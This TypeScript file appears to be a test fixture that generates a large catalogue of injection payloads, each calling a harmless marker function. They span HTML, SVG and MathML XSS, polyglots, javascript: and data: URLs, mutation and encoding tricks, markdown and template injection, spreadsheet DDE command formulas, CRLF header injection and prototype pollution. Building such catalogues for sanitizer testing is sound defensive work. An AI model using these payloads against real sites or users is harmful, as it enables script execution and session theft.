/** Texts that try to run `code`, by the way they try it. */

export interface Payload {
  kind: string
  /** Letters alone: figures are masked in what the insights keep. */
  id: string
  text: string
}

type Attempt = (code: string) => string

const entities = (text: string) =>
  [...text].map(character => `&#x${character.codePointAt(0)!.toString(16)};`).join('')
const escapes = (text: string) =>
  [...text].map(character => `\\u${character.codePointAt(0)!.toString(16).padStart(4, '0')}`).join('')
const img = (code: string) => `<img src=x onerror=${code}>`

const KINDS: Record<string, Attempt[]> = {
  markup: [
    code => `<script>${code}</script>`,
    code => `<ScRiPt/x>${code}</sCrIpT\t>`,
    code => `<<script>${code}//<</script>`,
    code => `<script src="data:text/javascript,${code}"></script>`,
    img,
    code => `<IMG SRC=x ONERROR="${code}">`,
    code => `<img src=x onerror=${code} //`,
    code => `<img/src=x/onerror=${code}//>`,
    code => `<iframe srcdoc="<script>${code}</script>"></iframe>`,
    code => `<iframe src="javascript:${code}"></iframe>`,
    code => `<object data="javascript:${code}"></object>`,
    code => `<embed src="javascript:${code}">`,
    code => `<video><source onerror=${code}></video>`,
    code => `<audio src=x onerror=${code}></audio>`,
    code => `<form action="javascript:${code}"><button>send</button></form>`,
    code => `<form id=f></form><button form=f formaction="javascript:${code}">send</button>`,
    code => `<meta http-equiv=refresh content="0;url=javascript:${code}">`,
    code => `<base href="javascript:${code}//"><a href=#>go</a>`,
    code => `<link rel=stylesheet href="data:text/css,*{}" onload=${code}>`,
    code => `<style onload=${code}>*{}</style>`,
    code => `<map name=m><area href="javascript:${code}" alt=go></map>`,
    code => `<div><template shadowrootmode=open><script>${code}</script></template></div>`,
    code => `<plaintext><img src=x onerror=${code}>`,
    code => `<div style="background:url(javascript:${code});width:expression(${code})">look</div>`,
  ],
  attributes: [
    code => `">${img(code)}`,
    code => `'>${img(code)}`,
    code => `" onmouseover="${code}`,
    code => `' onmouseover='${code}`,
    code => `\` onmouseover=${code} \``,
    code => `" autofocus tabindex=1 onfocus=${code} x="`,
    code => `x" style="animation-name:none" onanimationstart="${code}" y="`,
    code => `-->${img(code)}`,
    code => `--!>${img(code)}`,
    code => `]]>${img(code)}`,
    code => `</title>${img(code)}`,
    code => `</textarea>${img(code)}`,
    code => `</style>${img(code)}`,
    code => `</noscript>${img(code)}`,
    code => `</template></select></table>${img(code)}`,
    code =>
      `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=${code} )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=${code}//>\\x3e`,
    code =>
      `/*"/*'/*\`/*--></noscript></title></textarea></style></template></noembed></script><html " onmouseover=/*&lt;svg/*/onload=${code}//><svg onload=${code}>`,
  ],
  handlers: [
    ...[
      'pointerenter',
      'pointerdown',
      'mouseover',
      'click',
      'auxclick',
      'contextmenu',
      'wheel',
      'keydown',
    ].map(
      (event): Attempt =>
        code =>
          `<b on${event}=${code}>touch</b>`,
    ),
    code => `<details open ontoggle=${code}>look</details>`,
    code => `<marquee onstart=${code}>look</marquee>`,
    code => `<input autofocus onfocus=${code}>`,
    code => `<select autofocus onfocus=${code}></select>`,
    code => `<p tabindex=0 onfocusin=${code}>look</p>`,
    code => `<body onload=${code} onpageshow=${code}>`,
    code => `<div style=content-visibility:auto oncontentvisibilityautostatechange=${code}>look</div>`,
    code => `<no-such-element style="display:block" onpointermove=${code}>look</no-such-element>`,
  ],
  addresses: [
    code => `javascript:${code}`,
    code => `JaVaScRiPt:${code}`,
    code => ` \u0001javascript:${code}`,
    code => `java\tscript:${code}`,
    code => `java\nscript:${code}`,
    code => `javascript&colon;${code}`,
    code => `&#106;avascript:${code}`,
    code => `&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;${code}`,
    code => `javascript://a.example/%0a${code}`,
    code => `javascript:${encodeURIComponent(`eval('${code}')`).replaceAll('(', '%28')}`,
    code => `javascript：${code}`,
    code => `data:text/html,<script>opener.${code}</script>`,
    code => `data:text/html;base64,${btoa(`<script>opener.${code}</script>`)}`,
    code => `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${code}'/>`,
    code => `vbscript:${code}`,
    code => `view-source:javascript:${code}`,
    code => `feed:javascript:${code}`,
    code => `https:javascript:${code}`,
    code => `tel:javascript:${code}`,
    code => `mailto:a@b.example"onclick="${code}`,
    code => `//evil.example/${code}`,
    code => `\\\\evil.example\\${code}`,
    code => `https://a.example/"onmouseover="${code}`,
    code => `https://a.example/'onmouseover='${code}`,
    code => `https://a.example/><img/src=x/onerror=${code}>`,
    code => `https://a.example/\`-${code}-\``,
  ],
  svg: [
    code => `<svg onload=${code}>`,
    code => `<svg><script>${code}</script></svg>`,
    code => `<svg><script href="data:text/javascript,${code}" /></svg>`,
    code => `<svg><animate onbegin=${code} attributeName=x dur=1s></svg>`,
    code => `<svg><set onbegin=${code} attributeName=x dur=1s></svg>`,
    code => `<svg><a xlink:href="javascript:${code}"><text y=20>go</text></a></svg>`,
    code =>
      `<svg><a><animate attributeName=href values="javascript:${code}" /><text y=20>go</text></a></svg>`,
    code =>
      `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg' onload='${code}'/>#x"></svg>`,
    code => `<svg><foreignObject>${img(code)}</foreignObject></svg>`,
    code => `<svg><image href=x onerror=${code}></svg>`,
    code => `<svg><style>${img(code)}</style></svg>`,
    code => `<svg><title>${img(code)}</title></svg>`,
    code => `<?xml-stylesheet type="text/xsl" href="javascript:${code}"?>`,
  ],
  mathml: [
    code => `<math><mtext>${img(code)}</mtext></math>`,
    code => `<math href="javascript:${code}">go</math>`,
    code => `<math><mi xlink:href="javascript:${code}">go</mi></math>`,
    code => `<math><annotation-xml encoding="text/html">${img(code)}</annotation-xml></math>`,
    code =>
      `<math><mtext><option><x><option></option><mglyph><svg><mtext><textarea><path id="</textarea>${img(code)}">`,
  ],
  mutation: [
    code =>
      `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${code}&gt;">`,
    code => `<form><math><mtext></form><form><mglyph><style></math>${img(code)}`,
    code => `<svg></p><style><a id="</style>${img(code)}">`,
    code => `<svg><p><style><a title="</style>${img(code)}">`,
    code => `<noscript><p title="</noscript>${img(code)}">`,
    code => `<xmp><p title="</xmp>${img(code)}">`,
    code => `<noembed><p title="</noembed>${img(code)}">`,
    code => `<textarea><p title="</textarea>${img(code)}">`,
    code => `<listing>&lt;img src=x onerror=${code}&gt;</listing>`,
    code => `<select><template>${img(code)}</template></select>${img(code)}`,
    code => `<table><td background=x><caption>${img(code)}`,
    code => `&lt;img src=x onerror=${code}&gt;`,
    code => `&amp;lt;img src=x onerror=${code}&amp;gt;`,
    code => `<!--><script>${code}</script>-->`,
    code => `<![CDATA[<script>${code}</script>]]>`,
  ],
  encodings: [
    code => `\\u003cimg src=x onerror=${code}\\u003e`,
    code => encodeURIComponent(img(code)),
    code => encodeURIComponent(encodeURIComponent(img(code))),
    code => entities(img(code)),
    code => `＜img src=x onerror=${code}＞`,
    code => `﹤img src=x onerror=${code}﹥`,
    code => `<i\0mg src=x onerror=${code}>`,
    code => `<img\u000csrc=x\u000conerror=${code}>`,
    code => `<img\u000bsrc=x onerror=${code}>`,
    code => `\uFEFF${img(code)}`,
    code => `\u202E${img(code)}\u202C`,
    code => `\ud800${img(code)}\udfff`,
    code => `<scr\u200Bipt>${code}</scr\u200Bipt>`,
    code => `+ADw-img src=x onerror=${code}+AD4-`,
    code => `\u001b(J${img(code)}\u001b(B`,
    code => `¼script¾${code}¼/script¾`,
    code => `<img src=x onerror=${entities(code)}>`,
    code => `<img src=x onerror=${escapes(code.slice(0, -2))}()>`,
    code => `<img src=x onerror="window['${code.slice(0, -2)}']\`\`">`,
  ],
  markdown: [
    code => `[go](javascript:${code})`,
    code => `[go](JaVaScRiPt:${code})`,
    code => `[go](<java\nscript:${code}>)`,
    code => `[go](java&#10;script:${code})`,
    code => `[go](&#106;avascript:${code})`,
    code => `[go](javascript&colon;${code})`,
    code => `[go](\u0001javascript:${code})`,
    code => `[go](data:text/html;base64,${btoa(`<script>opener.${code}</script>`)})`,
    code => `[go](//evil.example/${code})`,
    code => `[go](https://a.example/"onmouseover="${code})`,
    code => `[go](https://a.example "t\\" onmouseover=${code} x=\\"")`,
    code => `![go](x"onerror="${code})`,
    code => `[![go](x)](javascript:${code})`,
    code => `[go][1]\n\n[1]: javascript:${code}`,
    code => `<javascript:${code}>`,
    code => `<https://a.example/"onmouseover="${code}>`,
    code => `https://a.example/"onmouseover="${code}`,
    code => `www.a.example/"onmouseover="${code}`,
    code => `\`${img(code)}\``,
    code => `\`\`\`js" onload="${code}\n${img(code)}\n\`\`\``,
    code => `    ${img(code)}`,
    code => `text <!-- ${code} -->${img(code)}`,
    code => `[${img(code)}](https://a.example)`,
    code => `> **~~${img(code)}~~**`,
    code => `| a |\n|---|\n| ${img(code)} |`,
    code => `text[^1]\n\n[^1]: ${img(code)}`,
    code => `\\<img src=x onerror=${code}\\>`,
    code => `\`*106#">${img(code)}\``,
    code => `[\`*106#\`](javascript:${code})`,
    code => `+7 700 123 45 67">${img(code)}`,
    code => `- [ ] task <input autofocus onfocus=${code}>`,
  ],
  templates: [
    code => `{{constructor.constructor('${code}')()}}`,
    code => `{{$on.constructor('${code}')()}}`,
    code => `\${${code}}`,
    code => `\${{${code}}}`,
    code => `#{${code}}`,
    code => `<%= ${code} %>`,
    code => `[[\${${code}}]]`,
    code => `{question}{language}{n}{date}{seconds}$&$'$\`${code}`,
  ],
  spreadsheets: [
    code => `=HYPERLINK("javascript:${code}","go")`,
    code => `=cmd|' /C ${code}'!A0`,
    code => `+${code}`,
    code => `-${code}`,
    code => `@SUM(${code})`,
    code => `\t=${code}`,
    code => `"=${code}`,
    code => `'=${code}`,
    code => `＝${code}`,
    code => `hello;=${code}`,
    code => `hello","=${code}`,
  ],
  scripts: [
    code => `</script><script>${code}</script>`,
    code => `</SCRIPT/x>${img(code)}`,
    code => `<!--<script>${code}//--></script>${img(code)}`,
    code => `"}]}</script>${img(code)}`,
    code => `"-${code}-"`,
    code => `'-${code}-'`,
    code => `\\"-${code}//`,
    code => `\u2028${code}//`,
    code => `*/${code}/*`,
    code => `{"__proto__":{"html":"${code}"}}`,
  ],
  headers: [
    code => `x\r\nSet-Cookie: ${code}=1`,
    code => `x%0d%0aLocation:%20javascript:${code}`,
    code => `x\r\nContent-Type: text/html\r\n\r\n${img(code)}`,
    code => `x\u560d\u560aSet-Cookie: ${code}=1`,
  ],
  prototypes: [
    code => `__proto__ ${code}`,
    code => `constructor.prototype.html=${code}`,
    code => `__proto__[innerHTML]=${img(code)}`,
    code => `constructor ${code}`,
  ],
}

/** `code` calls a function named after the payload: `xssab()`. */
export const PAYLOADS: Payload[] = Object.entries(KINDS)
  .flatMap(([kind, attempts]) => attempts.map(attempt => ({ kind, attempt })))
  .map(({ kind, attempt }, index) => {
    const id = idOf(index)
    return { kind, id, text: attempt(`xss${id}()`) }
  })

function idOf(index: number): string {
  return String.fromCharCode(97 + Math.floor(index / 26), 97 + (index % 26))
}
